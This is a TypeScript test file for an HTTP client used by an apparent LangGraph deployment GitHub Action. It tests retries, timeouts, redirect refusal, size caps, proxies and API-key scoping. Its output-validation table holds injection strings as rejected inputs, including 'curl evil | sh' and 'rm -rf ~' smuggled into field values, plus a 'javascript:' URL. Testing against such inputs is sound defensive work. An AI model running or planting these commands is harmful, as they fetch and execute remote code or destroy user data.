import { afterEach, describe, expect, it, jest } from '@jest/globals';
import { connect } from 'node:net';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readGithubContext } from '../../../src/inputs/config.js';
import {
  createResilientFetch,
  keyAllowedFor,
  MAX_ANSWER_BYTES,
  OutcomeUnknownError,
  RefusedAnswerError,
  request,
  type HttpContext,
} from '../../../src/api/http/request.js';
import { backoffDelay, parseRetryAfter } from '../../../src/api/http/retry-policy.js';
import { ApiError, CancelledError, DeadlineError } from '../../../src/lib/errors.js';
import { errorFromResponse } from '../../../src/api/answers.js';
import { outputGate, withoutCredentials } from '../../../src/lib/outputs.js';
import { escapeMarkdown } from '../../../src/report/markdown.js';
import { resetSecretsForTests, setSecret } from '../../../src/lib/untrusted.js';
import { Deadline } from '../../../src/lib/time.js';
import { captureOutputForTests, FakeClock } from '../../helpers/fakes.js';
import {
  captureLogger,
  sendJson,
  startServer,
  type LocalServer,
} from '../../helpers/http-test-server.js';

const API_KEY = 'lsv2_pt_test_key_0123456789abcdef';

/** FakeClock whose sleep can run a hook (start a server, abort a signal) while "waiting". */
class HookClock extends FakeClock {
  onSleep?: () => void | Promise<void>;
  override async sleep(ms: number, signal?: AbortSignal): Promise<void> {
    await super.sleep(ms, signal);
    await this.onSleep?.();
    if (signal?.aborted) throw signal.reason;
  }
}

function setup(options: Partial<HttpContext> & { timeoutSeconds?: number } = {}) {
  const clock = new HookClock();
  const logger = captureLogger();
  const { timeoutSeconds, ...rest } = options;
  const ctx: HttpContext = {
    clock,
    deadline: new Deadline(clock, clock.now() + (timeoutSeconds ?? 1800) * 1000),
    logger,
    random: () => 0.5,
    ...rest,
  };
  return { ctx, clock, logger };
}

const servers: LocalServer[] = [];
async function serve(handler: Parameters<typeof startServer>[0], port?: number) {
  const s = await startServer(handler, port);
  servers.push(s);
  return s;
}

afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

const get = (url: string) =>
  ({
    method: 'GET',
    url,
    headers: { 'X-Api-Key': API_KEY },
    retry: 'idempotent',
    describe: 'GET deployment d-1',
  }) as const;

const post = (url: string) =>
  ({
    method: 'POST',
    url,
    headers: { 'X-Api-Key': API_KEY },
    body: { name: 'app' },
    retry: 'unsafe',
    describe: 'POST (create) deployment "app"',
  }) as const;

describe('request: retries', () => {
  it('retries a burst of 503 and returns the success', async () => {
    const s = await serve((_req, res, n) =>
      n <= 3 ? sendJson(res, 503, { detail: 'busy' }) : sendJson(res, 200, { ok: true }),
    );
    const { ctx, clock, logger } = setup();
    const res = await request(ctx, get(`${s.url}/v2/deployments/d-1`));
    expect(res.status).toBe(200);
    expect(JSON.parse(res.text)).toEqual({ ok: true });
    expect(s.requests).toHaveLength(4);
    expect(res.attempts).toBe(4);
    expect(res.attemptsWithUnknownOutcome).toBe(3);
    // full jitter with random 0.5: 0.5 * 1000, 0.5 * 2000, 0.5 * 4000
    expect(clock.sleeps).toEqual([500, 1000, 2000]);
    const debug = logger.lines.filter((l) => l.startsWith('debug:'));
    expect(debug).toHaveLength(3);
    expect(debug[0]).toContain('GET /v2/deployments/d-1');
    expect(debug[0]).toContain('HTTP 503');
    expect(debug[0]).toContain('0.5 s');
  });

  it('honours Retry-After in seconds on a 429', async () => {
    const s = await serve((_req, res, n) =>
      n === 1
        ? sendJson(res, 429, { detail: 'slow down' }, { 'retry-after': '7' })
        : sendJson(res, 200, {}),
    );
    const { ctx, clock } = setup();
    const res = await request(ctx, get(`${s.url}/x`));
    expect(res.status).toBe(200);
    expect(clock.sleeps).toHaveLength(1);
    expect(clock.sleeps[0]).toBeGreaterThanOrEqual(7000);
    expect(res.attemptsWithUnknownOutcome).toBe(0);
  });

  it('spreads runs told the same Retry-After: up to a fifth more (at most 1 s), never past the deadline', async () => {
    const handler: Parameters<typeof serve>[0] = (_req, res, n) =>
      n === 1 ? sendJson(res, 429, {}, { 'retry-after': '2' }) : sendJson(res, 200, {});
    const low = setup({ random: () => 0 });
    await request(low.ctx, get(`${(await serve(handler)).url}/x`));
    expect(low.clock.sleeps).toEqual([2000]);
    const high = setup({ random: () => 1 });
    await request(high.ctx, get(`${(await serve(handler)).url}/x`));
    expect(high.clock.sleeps).toEqual([2400]);
    const tight = setup({ random: () => 1, timeoutSeconds: 2.1 });
    await request(tight.ctx, get(`${(await serve(handler)).url}/x`));
    expect(tight.clock.sleeps[0]).toBeGreaterThanOrEqual(2000);
    expect(tight.clock.sleeps[0]).toBeLessThanOrEqual(2100);
  });

  it('honours Retry-After as an HTTP date, and retries a 429 even for a POST', async () => {
    const clockForDate = new FakeClock();
    const at = new Date(clockForDate.now() + 12_000).toUTCString();
    const s = await serve((_req, res, n) =>
      n === 1 ? sendJson(res, 429, {}, { 'retry-after': at }) : sendJson(res, 201, { id: 'd' }),
    );
    const { ctx, clock } = setup();
    const res = await request(ctx, post(`${s.url}/v2/deployments`));
    expect(res.status).toBe(201);
    expect(s.requests).toHaveLength(2);
    expect(clock.sleeps).toHaveLength(1);
    expect(clock.sleeps[0]).toBeGreaterThanOrEqual(12_000);
  });

  it('waits default429DelayMs after a 429 without Retry-After', async () => {
    const s = await serve((_req, res, n) =>
      n === 1 ? sendJson(res, 429, {}) : sendJson(res, 200, {}),
    );
    const { ctx, clock } = setup({ default429DelayMs: 4321 });
    await request(ctx, get(`${s.url}/x`));
    expect(clock.sleeps).toEqual([4321]);
    expect(s.requests).toHaveLength(2);
  });

  it.each([400, 401, 403, 404, 409, 422])('does not retry HTTP %i', async (status) => {
    const s = await serve((_req, res) => sendJson(res, status, { detail: 'no' }));
    const { ctx, clock } = setup();
    const res = await request(ctx, get(`${s.url}/x`));
    expect(res.status).toBe(status);
    expect(s.requests).toHaveLength(1);
    expect(clock.sleeps).toEqual([]);
  });

  it('stops after maxAttempts on a persistent 500 and the mapped error names the status', async () => {
    const s = await serve((_req, res) => sendJson(res, 500, { detail: 'boom' }));
    const { ctx } = setup();
    const res = await request(ctx, get(`${s.url}/v2/deployments/d-1`));
    expect(s.requests).toHaveLength(5);
    expect(res.status).toBe(500);
    expect(res.attempts).toBe(5);
    const err = errorFromResponse(res, { describe: 'GET deployment d-1' }, () => {});
    expect(err.message).toContain('HTTP 500');
    expect(err.message).toContain('5 attempts');
    expect(err.status).toBe(500);
  });

  it('respects a smaller maxAttempts', async () => {
    const s = await serve((_req, res) => sendJson(res, 502, {}));
    const { ctx } = setup({ maxAttempts: 2 });
    const res = await request(ctx, get(`${s.url}/x`));
    expect(res.status).toBe(502);
    expect(s.requests).toHaveLength(2);
  });

  it('stops retrying when the next wait would pass the deadline', async () => {
    const s = await serve((_req, res) => sendJson(res, 503, {}));
    // random 1: waits 1000, 2000, 4000, then 8000 would end past the 10 s deadline
    const { ctx, clock } = setup({ timeoutSeconds: 10, random: () => 1 });
    const err = await request(ctx, get(`${s.url}/x`)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(DeadlineError);
    expect((err as Error).message).toContain('GET deployment d-1');
    expect((err as Error).message).toContain('HTTP 503');
    expect(clock.sleeps).toEqual([1000, 2000, 4000]);
    expect(s.requests).toHaveLength(4);
  });

  it('does not wait a Retry-After that passes the deadline', async () => {
    const s = await serve((_req, res) => sendJson(res, 429, {}, { 'retry-after': '120' }));
    const { ctx, clock } = setup({ timeoutSeconds: 60 });
    await expect(request(ctx, get(`${s.url}/x`))).rejects.toBeInstanceOf(DeadlineError);
    expect(clock.sleeps).toEqual([]);
    expect(s.requests).toHaveLength(1);
  });

  it('sends nothing once the deadline has passed', async () => {
    const s = await serve((_req, res) => sendJson(res, 200, {}));
    const { ctx, clock } = setup({ timeoutSeconds: 5 });
    clock.current += 6000;
    await expect(request(ctx, get(`${s.url}/x`))).rejects.toBeInstanceOf(DeadlineError);
    expect(s.requests).toHaveLength(0);
  });
});

describe('request: network faults', () => {
  it('retries a GET whose connection is reset', async () => {
    const s = await serve((req, res, n) =>
      n === 1 ? req.socket.destroy() : sendJson(res, 200, {}),
    );
    const { ctx, logger } = setup();
    const res = await request(ctx, get(`${s.url}/x`));
    expect(res.status).toBe(200);
    expect(s.requests).toHaveLength(2);
    expect(res.attemptsWithUnknownOutcome).toBe(1);
    expect(logger.lines.filter((l) => l.startsWith('debug:'))).toHaveLength(1);
  });

  it('throws OutcomeUnknownError when a POST connection is reset, without retrying', async () => {
    const s = await serve((req) => req.socket.destroy());
    const { ctx } = setup();
    const err = await request(ctx, post(`${s.url}/v2/deployments`)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(OutcomeUnknownError);
    expect((err as OutcomeUnknownError).method).toBe('POST');
    expect((err as Error).message).toContain('POST (create) deployment "app"');
    expect(s.requests).toHaveLength(1);
  });

  it('throws OutcomeUnknownError on a 5xx or 408 answer to a POST, without retrying', async () => {
    for (const status of [502, 408]) {
      const s = await serve((_req, res) => sendJson(res, status, {}));
      const { ctx } = setup();
      const err = await request(ctx, post(`${s.url}/v2/deployments`)).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(OutcomeUnknownError);
      expect((err as OutcomeUnknownError).status).toBe(status);
      expect(s.requests).toHaveLength(1);
    }
  });

  it('retries a POST whose connection was refused (never sent)', async () => {
    const probe = await startServer(() => undefined);
    const port = probe.port;
    await probe.close(); // nothing listens on `port` now
    const { ctx, clock } = setup();
    let s: LocalServer | undefined;
    clock.onSleep = async () => {
      s ??= await serve((_req, res) => sendJson(res, 201, { id: 'd-1' }), port);
    };
    const res = await request(ctx, post(`http://127.0.0.1:${port}/v2/deployments`));
    expect(res.status).toBe(201);
    expect(clock.sleeps).toHaveLength(1);
    expect(s?.requests).toHaveLength(1);
    expect(res.attemptsWithUnknownOutcome).toBe(0);
  });

  it('gives up on a refused connection after maxAttempts with an ApiError naming it', async () => {
    const probe = await startServer(() => undefined);
    await probe.close();
    const { ctx, clock } = setup();
    const err = await request(ctx, get(`${probe.url}/x`)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(ApiError);
    expect((err as Error).message).toMatch(/refused/);
    expect((err as Error).message).toContain('5 attempts');
    expect(clock.sleeps).toHaveLength(4);
  });

  it('times out a hanging GET and retries it', async () => {
    const s = await serve((_req, res, n) => {
      if (n > 1) sendJson(res, 200, { ok: true });
    });
    const { ctx } = setup({ requestTimeoutMs: 150 });
    const res = await request(ctx, get(`${s.url}/x`));
    expect(res.status).toBe(200);
    expect(s.requests).toHaveLength(2);
    expect(res.attemptsWithUnknownOutcome).toBe(1);
  });

  it('turns a timed-out POST into OutcomeUnknownError', async () => {
    const s = await serve(() => undefined);
    const { ctx } = setup({ requestTimeoutMs: 150 });
    const err = await request(ctx, post(`${s.url}/v2/deployments`)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(OutcomeUnknownError);
    expect((err as OutcomeUnknownError).reason).toMatch(/no answer within/);
    expect(s.requests).toHaveLength(1);
  });

  it('rejects at once with CancelledError when the run is cancelled mid-request', async () => {
    const controller = new AbortController();
    const s = await serve(() => controller.abort()); // never answers
    const { ctx } = setup({ signal: controller.signal });
    const started = Date.now();
    const err = await request(ctx, get(`${s.url}/x`)).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(CancelledError);
    expect(Date.now() - started).toBeLessThan(5000); // the request timeout is 30 s
    expect(s.requests).toHaveLength(1);
  });

  it('rejects with CancelledError when cancelled during a backoff wait, without retrying', async () => {
    const controller = new AbortController();
    const s = await serve((_req, res) => sendJson(res, 503, {}));
    const { ctx, clock } = setup({ signal: controller.signal });
    clock.onSleep = () => controller.abort();
    await expect(request(ctx, get(`${s.url}/x`))).rejects.toBeInstanceOf(CancelledError);
    expect(s.requests).toHaveLength(1);
  });

  it('sends nothing when already cancelled', async () => {
    const s = await serve((_req, res) => sendJson(res, 200, {}));
    const { ctx } = setup({ signal: AbortSignal.abort() });
    await expect(request(ctx, get(`${s.url}/x`))).rejects.toBeInstanceOf(CancelledError);
    expect(s.requests).toHaveLength(0);
  });
});

describe('request: bodies and logs', () => {
  it('sends the body as JSON with a content type', async () => {
    const s = await serve((_req, res) => sendJson(res, 201, {}));
    const { ctx } = setup();
    await request(ctx, post(`${s.url}/v2/deployments`));
    expect(s.requests[0]?.headers['content-type']).toBe('application/json');
    expect(JSON.parse(s.requests[0]?.body ?? '')).toEqual({ name: 'app' });
  });

  it('does not follow redirects (the key would go along)', async () => {
    const s = await serve((_req, res) => {
      res.writeHead(302, { location: 'https://elsewhere.example/x' });
      res.end();
    });
    const { ctx } = setup();
    // Not retried either: the same answer would come back until the deadline.
    await expect(request(ctx, get(`${s.url}/x`))).rejects.toThrow(
      /HTTP 302, a redirect \(to elsewhere\.example\)/,
    );
    expect(s.requests).toHaveLength(1);
  });

  it('never logs the API key, headers, bodies or query strings', async () => {
    const s = await serve((req, res, n) => {
      if (n === 1) return req.socket.destroy();
      if (n === 2) return sendJson(res, 503, { detail: `echo ${API_KEY}` });
      if (n === 3) return sendJson(res, 429, { detail: 'slow' });
      return sendJson(res, 200, { token: API_KEY });
    });
    const { ctx, logger } = setup();
    await request(ctx, {
      ...get(`${s.url}/v2/deployments?name_contains=query-secret-xyz`),
      body: undefined,
    });
    expect(logger.lines.length).toBe(3);
    for (const line of logger.lines) {
      expect(line).not.toContain(API_KEY);
      expect(line).not.toContain('query-secret-xyz');
      expect(line).not.toContain('X-Api-Key');
      expect(line).not.toContain('echo');
    }
  });
});

describe('parseRetryAfter and backoffDelay', () => {
  const now = Date.UTC(2024, 0, 1, 12, 0, 0);
  it('parses seconds and HTTP dates', () => {
    expect(parseRetryAfter('5', now)).toBe(5000);
    expect(parseRetryAfter(' 0 ', now)).toBe(0);
    expect(parseRetryAfter('1.5', now)).toBe(1500);
    expect(parseRetryAfter(new Date(now + 30_000).toUTCString(), now)).toBe(30_000);
    expect(parseRetryAfter(new Date(now - 30_000).toUTCString(), now)).toBe(0);
  });
  it('ignores missing or malformed values', () => {
    expect(parseRetryAfter(null, now)).toBeUndefined();
    expect(parseRetryAfter('', now)).toBeUndefined();
    expect(parseRetryAfter('-3', now)).toBeUndefined();
    expect(parseRetryAfter('soon', now)).toBeUndefined();
    expect(parseRetryAfter('12abc', now)).toBeUndefined();
  });
  it('uses full jitter capped at maxDelay', () => {
    const max = { random: () => 1, baseDelayMs: 1000, maxDelayMs: 20_000 };
    expect(backoffDelay(0, max)).toBe(1000);
    expect(backoffDelay(3, max)).toBe(8000);
    expect(backoffDelay(10, max)).toBe(20_000);
    expect(backoffDelay(5, { ...max, random: () => 0 })).toBe(0);
    expect(backoffDelay(1, { ...max, random: () => 0.25 })).toBe(500);
    // defaults: base 1000, max 20000
    expect(backoffDelay(2, { random: () => 1 })).toBe(4000);
    expect(backoffDelay(9, { random: () => 1 })).toBe(20_000);
  });
});

describe('keyAllowedFor', () => {
  it.each([
    ['https://api.host.langchain.com', true],
    ['https://agent.example.com:8443/x', true],
    ['http://localhost:2024', true],
    ['http://127.0.0.1:8123/ok', true],
    ['http://[::1]:8000', true],
    ['http://LOCALHOST', true],
    ['http://agent.example.com', false],
    ['http://localhost.evil.example', false],
    ['http://10.0.0.5', false],
    ['ftp://localhost', false],
  ])('%s → %s', (url, allowed) => {
    expect(keyAllowedFor(new URL(url))).toBe(allowed);
  });
});

describe('createResilientFetch', () => {
  it('never retries a POST to /runs/stream', async () => {
    const s = await serve((_req, res) => sendJson(res, 503, {}));
    const { ctx, clock } = setup();
    const f = createResilientFetch(ctx);
    const res = await f(`${s.url}/threads/t-1/runs/stream`, {
      method: 'POST',
      body: JSON.stringify({ input: {} }),
      headers: { 'content-type': 'application/json' },
    });
    expect(res.status).toBe(503);
    expect(s.requests).toHaveLength(1);
    expect(clock.sleeps).toEqual([]);
  });

  it('never retries a reset /runs/stream POST (OutcomeUnknownError)', async () => {
    const s = await serve((req) => req.socket.destroy());
    const { ctx } = setup();
    const f = createResilientFetch(ctx);
    await expect(
      f(`${s.url}/threads/t-1/runs/stream`, { method: 'POST', body: '{}' }),
    ).rejects.toBeInstanceOf(OutcomeUnknownError);
    expect(s.requests).toHaveLength(1);
  });

  it('retries a read-only POST …/search on 503, but not a POST that creates', async () => {
    const s = await serve((req, res, n) =>
      n === 1 || req.url === '/threads'
        ? sendJson(res, 503, {})
        : sendJson(res, 200, [{ assistant_id: 'a' }]),
    );
    const { ctx } = setup();
    const f = createResilientFetch(ctx);
    const res = await f(`${s.url}/assistants/search`, { method: 'POST', body: '{}' });
    expect(res.status).toBe(200);
    expect(s.requests).toHaveLength(2);
    await expect(f(`${s.url}/threads`, { method: 'POST', body: '{}' })).rejects.toBeInstanceOf(
      OutcomeUnknownError,
    );
    expect(s.requests).toHaveLength(3);
  });

  it('passes the stream body through without buffering it', async () => {
    let release!: () => void;
    const released = new Promise<void>((r) => (release = r));
    const s = await serve(async (_req, res) => {
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.write('event: metadata\ndata: {"run_id":"r-1"}\n\n');
      await released; // the rest only after the client has read the first event
      res.end('event: values\ndata: {}\n\n');
    });
    const { ctx } = setup();
    const f = createResilientFetch(ctx);
    const res = await f(`${s.url}/threads/t-1/runs/stream`, { method: 'POST', body: '{}' });
    const reader = res.body!.getReader();
    const first = await reader.read();
    expect(new TextDecoder().decode(first.value)).toContain('event: metadata');
    release();
    let rest = '';
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      rest += new TextDecoder().decode(value);
    }
    expect(rest).toContain('event: values');
  }, 10_000);

  it('retries a GET and returns a real Response', async () => {
    const s = await serve((_req, res, n) =>
      n <= 2 ? sendJson(res, 503, {}) : sendJson(res, 200, { assistant_id: 'a-1' }),
    );
    const { ctx, clock } = setup();
    const f = createResilientFetch(ctx);
    const res = await f(`${s.url}/assistants/a-1`, { headers: { 'x-api-key': API_KEY } });
    expect(res).toBeInstanceOf(Response);
    expect(res.ok).toBe(true);
    expect(await res.json()).toEqual({ assistant_id: 'a-1' });
    expect(s.requests).toHaveLength(3);
    expect(clock.sleeps).toHaveLength(2);
    expect(s.requests[2]?.headers['x-api-key']).toBe(API_KEY);
  });

  it('retries nothing but 429 for a non-stream POST', async () => {
    const s = await serve((req) => req.socket.destroy());
    const { ctx } = setup();
    const f = createResilientFetch(ctx);
    await expect(f(`${s.url}/threads`, { method: 'POST', body: '{}' })).rejects.toBeInstanceOf(
      OutcomeUnknownError,
    );
    expect(s.requests).toHaveLength(1);
  });

  it('returns a 204 with an empty body', async () => {
    const s = await serve((_req, res) => {
      res.writeHead(204);
      res.end();
    });
    const { ctx } = setup();
    const res = await createResilientFetch(ctx)(`${s.url}/threads/t-1`, { method: 'DELETE' });
    expect(res.status).toBe(204);
    expect(await res.text()).toBe('');
  });

  it('drops the key headers for URLs keyAllowedFor refuses (plain http, not loopback)', async () => {
    const sent: Headers[] = [];
    const { ctx } = setup({
      fetchImpl: async (_url, init) => {
        sent.push(new Headers(init?.headers));
        return new Response('{}', { status: 200 });
      },
    });
    const f = createResilientFetch(ctx);
    const headers = { 'X-Api-Key': API_KEY, Authorization: 'Bearer x' };
    await f('http://agent.example.com/ok', { headers });
    await f('https://agent.example.com/ok', { headers });
    // `request()` itself keeps the rule, for every caller.
    await request(ctx, { ...get('http://cp.example.com/v2/deployments'), headers });
    expect(sent[0]?.has('x-api-key')).toBe(false);
    expect(sent[0]?.has('authorization')).toBe(false);
    expect(sent[1]?.get('x-api-key')).toBe(API_KEY);
    expect(sent[2]?.has('x-api-key')).toBe(false);
  });

  it("rejects with the caller's abort reason and does not retry", async () => {
    const controller = new AbortController();
    const s = await serve(() => controller.abort(new Error('sdk gave up')));
    const { ctx } = setup();
    const f = createResilientFetch(ctx);
    await expect(f(`${s.url}/assistants/a`, { signal: controller.signal })).rejects.toThrow(
      'sdk gave up',
    );
    expect(s.requests).toHaveLength(1);
  });
});

describe('createResilientFetch with @langchain/langgraph-sdk', () => {
  it('retries the SDK GET through 503s and sends the stream POST once', async () => {
    const s = await serve((req, res, n) => {
      if (req.method === 'GET') {
        return n <= 2
          ? sendJson(res, 503, {})
          : sendJson(res, 200, { assistant_id: 'a-1', graph_id: 'agent' });
      }
      return sendJson(res, 503, { detail: 'busy' });
    });
    const { ctx, clock } = setup();
    const { Client } = await import('@langchain/langgraph-sdk');
    const client = new Client({
      apiUrl: s.url,
      apiKey: API_KEY,
      callerOptions: { fetch: createResilientFetch(ctx), maxRetries: 0 },
    });
    const assistant = await client.assistants.get('a-1');
    expect(assistant.graph_id).toBe('agent');
    expect(s.requests).toHaveLength(3);
    expect(s.requests[2]?.headers['x-api-key']).toBe(API_KEY);
    expect(clock.sleeps).toHaveLength(2);

    const consume = async () => {
      for await (const _chunk of client.runs.stream('t-1', 'a-1', { input: {} })) {
        // nothing: the answer is a 503
      }
    };
    await expect(consume()).rejects.toThrow();
    const posts = s.requests.filter((r) => r.method === 'POST');
    expect(posts).toHaveLength(1);
    expect(posts[0]?.url).toBe('/threads/t-1/runs/stream');
    expect(clock.sleeps).toHaveLength(2);
  });
});

describe('proxy', () => {
  const names = ['HTTPS_PROXY', 'https_proxy', 'HTTP_PROXY', 'http_proxy', 'NO_PROXY', 'no_proxy'];
  let saved: Record<string, string | undefined> = {};
  const clearProxyEnv = () => {
    saved = Object.fromEntries(names.map((n) => [n, process.env[n]]));
    for (const n of names) delete process.env[n];
  };
  afterEach(() => {
    for (const n of names) {
      if (saved[n] === undefined) delete process.env[n];
      else process.env[n] = saved[n];
    }
  });

  function spyFetch() {
    const calls: (RequestInit & { dispatcher?: unknown })[] = [];
    const fetchImpl = jest.fn(async (_url: unknown, init?: RequestInit) => {
      calls.push(init ?? {});
      return new Response('{}', { status: 200 });
    });
    return { calls, fetchImpl: fetchImpl as unknown as typeof fetch };
  }

  it('passes no dispatcher when no proxy variable is set', async () => {
    clearProxyEnv();
    const { calls, fetchImpl } = spyFetch();
    const { ctx } = setup({ fetchImpl });
    await request(ctx, get('https://api.example.test/x'));
    expect(calls[0]?.dispatcher).toBeUndefined();
  });

  it('uses the proxy dispatcher when HTTPS_PROXY is set, and not for NO_PROXY hosts', async () => {
    clearProxyEnv();
    process.env['HTTPS_PROXY'] = 'http://127.0.0.1:9';
    process.env['NO_PROXY'] = 'internal.example.test';
    const { calls, fetchImpl } = spyFetch();
    const { ctx } = setup({ fetchImpl });
    await request(ctx, get('https://api.example.test/x'));
    await request(ctx, get('https://cp.internal.example.test/x'));
    expect(calls[0]?.dispatcher).toBeDefined();
    expect(calls[1]?.dispatcher).toBeUndefined();
  });

  it('sends requests through an HTTP proxy (CONNECT tunnel) end to end', async () => {
    clearProxyEnv();
    const target = await serve((_req, res) => sendJson(res, 200, { ok: true }));
    const connects: string[] = [];
    const sockets: { destroy(): void }[] = [];
    const proxy = createHttpServer((_req, res) => {
      res.writeHead(501);
      res.end();
    });
    proxy.on('connect', (req, clientSocket, head) => {
      connects.push(req.url ?? '');
      sockets.push(clientSocket);
      const upstream = connect(target.port, '127.0.0.1', () => {
        clientSocket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
        upstream.write(head);
        upstream.pipe(clientSocket);
        clientSocket.pipe(upstream);
      });
      sockets.push(upstream);
      upstream.on('error', () => clientSocket.destroy());
      clientSocket.on('error', () => upstream.destroy());
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', () => r()));
    try {
      const proxyPort = (proxy.address() as AddressInfo).port;
      process.env['HTTP_PROXY'] = `http://127.0.0.1:${proxyPort}`;
      const { ctx } = setup();
      const res = await request(ctx, get(`http://control-plane.test:${target.port}/ok`));
      expect(res.status).toBe(200);
      expect(JSON.parse(res.text)).toEqual({ ok: true });
      expect(connects).toEqual([`control-plane.test:${target.port}`]);
    } finally {
      for (const socket of sockets) socket.destroy();
      proxy.closeAllConnections();
      await new Promise<void>((r) => proxy.close(() => r()));
    }
  });
});

/*
 * Answers the action does not trust: redirects (never followed, never retried), the 16 MiB
 * size cap (counted as the body streams in), output values built from answers, credentials in
 * URLs, secrets in error details (masked before the reflow and the cut), and the GitHub event
 * payload of a pull request.
 */
afterEach(() => resetSecretsForTests());

function noAnswer(): Error {
  throw new Error('expected the request to fail');
}

function ctxWith(fetchImpl: typeof fetch): HttpContext {
  const clock = new FakeClock();
  return {
    clock,
    deadline: new Deadline(clock, clock.now() + 1800 * 1000),
    logger: captureLogger(),
    random: () => 0.5,
    fetchImpl,
  };
}

/** A body of `total` bytes produced on demand; `pulled()` tells how much was read. */
function lazyBody(total: number, chunk = 64 * 1024) {
  let produced = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (produced >= total) return controller.close();
      const n = Math.min(chunk, total - produced);
      produced += n;
      controller.enqueue(new Uint8Array(n).fill(32));
    },
  });
  return { stream, pulled: () => produced };
}

describe('redirects', () => {
  it.each([301, 302, 303, 307, 308])(
    'HTTP %i fails at once, names the host, is not retried',
    async (status) => {
      let calls = 0;
      const ctx = ctxWith(async () => {
        calls++;
        return new Response(null, {
          status,
          headers: { location: 'https://user:pw@login.example:8443/sso?next=%2Fok' },
        });
      });
      const error = await request(ctx, {
        method: 'GET',
        url: 'https://agent.example/ok',
        retry: 'idempotent',
        describe: 'GET https://agent.example/ok',
      }).then(noAnswer, (e: unknown) => e as Error);
      expect(error).toBeInstanceOf(RefusedAnswerError);
      expect(error.message).toMatch(/redirect/);
      expect(error.message).toContain('login.example:8443');
      expect(error.message).not.toContain('pw');
      expect(error.message).not.toContain('sso');
      expect(calls).toBe(1);
    },
  );

  it("comes back as an answer only when the caller follows it itself (`redirect: 'return'`)", async () => {
    const ctx = ctxWith(
      async () => new Response(null, { status: 307, headers: { location: '/b' } }),
    );
    const res = await request(ctx, {
      method: 'GET',
      url: 'https://registry.example/v2/a/blobs/x',
      redirect: 'return',
      describe: 'GET a blob',
    });
    expect([res.status, res.headers.get('location'), res.attempts]).toEqual([307, '/b', 1]);
  });

  it('the SDK fetch refuses a redirecting stream too', async () => {
    const f = createResilientFetch(
      ctxWith(async () => new Response(null, { status: 307, headers: { location: '/elsewhere' } })),
    );
    await expect(
      f('https://agent.example/threads/t/runs/stream', { method: 'POST', body: '{}' }),
    ).rejects.toThrow(/redirect \(to agent\.example\)/);
  });
});

describe('the size cap', () => {
  it('stops reading past 16 MiB and says "answer too large"', async () => {
    const body = lazyBody(192 * 1024 * 1024);
    const ctx = ctxWith(async () => new Response(body.stream, { status: 200 }));
    const error = await request(ctx, {
      method: 'GET',
      url: 'https://cp.example/v2/deployments',
      retry: 'idempotent',
      describe: 'GET deployments',
    }).then(noAnswer, (e: unknown) => e as Error);
    expect(error).toBeInstanceOf(RefusedAnswerError);
    expect(error.message).toMatch(/answer too large/);
    // Memory bounded: no more than the cap and a chunk or two was pulled from the stream.
    expect(body.pulled()).toBeLessThanOrEqual(MAX_ANSWER_BYTES + 256 * 1024);
  });

  it('fails before reading when Content-Length is over the cap', async () => {
    const body = lazyBody(MAX_ANSWER_BYTES * 2);
    const ctx = ctxWith(
      async () =>
        new Response(body.stream, {
          status: 200,
          headers: { 'content-length': String(MAX_ANSWER_BYTES * 2) },
        }),
    );
    await expect(
      request(ctx, {
        method: 'GET',
        url: 'https://cp.example/x',
        retry: 'idempotent',
        describe: 'GET x',
      }),
    ).rejects.toThrow(/answer too large/);
    expect(body.pulled()).toBeLessThanOrEqual(256 * 1024);
  });

  it('reads an answer just under the cap', async () => {
    const body = lazyBody(MAX_ANSWER_BYTES);
    const ctx = ctxWith(async () => new Response(body.stream, { status: 200 }));
    const res = await request(ctx, {
      method: 'GET',
      url: 'https://cp.example/x',
      retry: 'idempotent',
      describe: 'GET x',
    });
    expect(res.text.length).toBe(MAX_ANSWER_BYTES);
  });

  it('caps a streamed run too', async () => {
    const body = lazyBody(64 * 1024 * 1024);
    const f = createResilientFetch(ctxWith(async () => new Response(body.stream, { status: 200 })));
    const res = await f('https://agent.example/threads/t/runs/stream', {
      method: 'POST',
      body: '{}',
    });
    await expect(res.text()).rejects.toThrow(/answer too large/);
    expect(body.pulled()).toBeLessThanOrEqual(MAX_ANSWER_BYTES + 256 * 1024);
  });
});

describe('outputs built from answers', () => {
  it.each([
    ['commit-sha', '0123456789abcdef0123456789abcdef01234567', true],
    ['commit-sha', 'abc"; curl evil | sh; "', false],
    ['commit-sha', 'main', false],
    ['name', 'my-agent-pr-12', true],
    ['name', 'My Agent', false],
    ['name', 'x\n::error::y', false],
    ['deployment-id', '9b48d351-6b05-468c-a1f2-9ec689fcc846', true],
    ['deployment-id', 'a b', false],
    ['revision-id', 'r\t1', false],
    ['status', 'DEPLOYED', true],
    ['status', 'QUEUED\r::warning::x', false],
    ['url', 'https://agent.example/path', true],
    ['url', 'http://127.0.0.1:8123', true],
    ['url', 'https://user:pw@agent.example', false],
    ['url', 'https://agent.example/"; rm -rf ~; "', false],
    ['url', 'https://agent.example/a b', false],
    ['url', 'javascript:alert(1)', false],
    ['url', 'ftp://agent.example', false],
    ['ui-url', 'https://smith.langchain.com/o/t/host/deployments/d', true],
    ['created', 'true', true],
    ['created', 'yes', false],
  ])('%s = %j: valid %s', (name, value, valid) => {
    const written: string[] = [];
    outputGate({ warning: () => undefined }, (_, v) => written.push(v))(name, value);
    expect(written.length === 1).toBe(valid);
  });

  it('drops credentials from a URL and returns every form to mask', () => {
    expect(withoutCredentials('https://agent:p%40ss@host.example/x/')).toEqual({
      url: 'https://host.example/x/',
      credentials: ['p%40ss', 'p@ss', 'agent:p%40ss', 'agent:p@ss'],
    });
    expect(withoutCredentials('https://tok3n@host.example/x')).toEqual({
      url: 'https://host.example/x',
      credentials: ['tok3n'],
    });
    expect(withoutCredentials('https://host.example')).toEqual({
      url: 'https://host.example',
      credentials: [],
    });
  });
});

